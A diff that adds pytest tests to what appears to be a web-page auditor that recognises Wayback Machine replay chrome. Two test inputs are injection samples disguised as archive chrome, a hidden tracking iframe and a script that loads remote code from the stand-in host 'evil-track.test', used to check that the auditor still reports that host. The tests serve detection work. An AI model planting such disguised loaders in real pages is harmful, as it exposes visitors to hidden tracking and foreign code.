@@ -13,6 +13,7 @@ from __future__ import annotations
 import io
 from pathlib import Path
 
+import lxml.html
 import pytest
 
 from auditor.catalogue import Catalogue
@@ -263,3 +264,51 @@ _MARK = ('__wm.wombat("https://example.com/","20230105123456","https://web.archi
 def test_a_page_quoting_a_replays_code_is_no_replay(text: str, url: str | None) -> None:
     doc = Document(input="t", kind="html", text=text, url=url)
     assert unwrapped(doc) == (doc, None)
+
+
+_WOMBAT_OF_SITE = ('<script>__wm.wombat("https://www.harbour-gazette.test/","20230105123456",'
+                   '"https://web.archive.org/","web","x","1");</script>')
+
+
+@pytest.mark.parametrize("injected", [
+    # an injection any page can wrap in the toolbar's comments
+    '<!-- BEGIN WAYBACK TOOLBAR INSERT -->\n<iframe src="http://evil-track.test/in.cgi?2" '
+    'width="1" height="1" style="visibility:hidden"></iframe>\n'
+    '<!-- END WAYBACK TOOLBAR INSERT -->',
+    # or start with the trailer's call
+    "<script>__wm.bt(1);var s=document.createElement('script');s.src="
+    "'https:\\/\\/evil-track.test\\/p.js';document.head.appendChild(s);</script>",
+])
+def test_chrome_that_loads_another_sites_code_is_the_pages(
+    injected: str, engine: Engine, catalogue: Catalogue
+) -> None:
+    # what looks like the archive's chrome but loads what is not the archive's stays
+    text = (f"<!DOCTYPE html>\n<html><head>{_WOMBAT_OF_SITE}</head><body>\n{injected}\n"
+            "<article><p>The council voted.</p></article></body></html>")
+    page = audit_document(Document("t", "html", text, "https://www.harbour-gazette.test/"),
+                          engine, catalogue)
+    assert page.replay is not None
+    assert [h.host for h in page.third_party_hosts] == ["evil-track.test"]
+
+
+def test_the_archives_chrome_keeps_the_saved_files_xpaths(
+    original: PageReport, engine: Engine, catalogue: Catalogue
+) -> None:
+    # the chrome's elements are left empty, not dropped: the page's own after it keep the
+    # indexes they have in the saved file
+    text = (HERE / "news-wayback.html").read_text(encoding="utf-8")
+    saved = lxml.html.fromstring(text).getroottree()
+    copy = _audit("news-wayback.html", WAYBACK_URL, engine, catalogue)
+    for r in copy.resources:
+        [element] = saved.xpath(r.xpath)
+        written = " ".join(str(v) for v in element.attrib.values()) + (element.text or "")
+        assert r.url.split("/")[2] in written.replace("\\/", "/"), (r.url, r.xpath)
+
+
+def test_a_head_include_in_a_page_without_head_keeps_its_html_tag() -> None:
+    text = ('<!DOCTYPE html>\n<html lang="en"><script src="/_static/js/bundle-playback.js">'
+            f'</script>\n{_WOMBAT_OF_SITE}\n<!-- End Wayback Rewrite JS Include -->\n'
+            '<title>Shop</title><body><p>Shop</p></body></html>')
+    doc, replay = unwrapped(Document(input="t", kind="html", text=text, url=None))
+    assert replay is not None and doc.text.startswith('<!DOCTYPE html>\n<html lang="en">')
+    assert "bundle-playback" not in doc.text and "__wm" not in doc.text
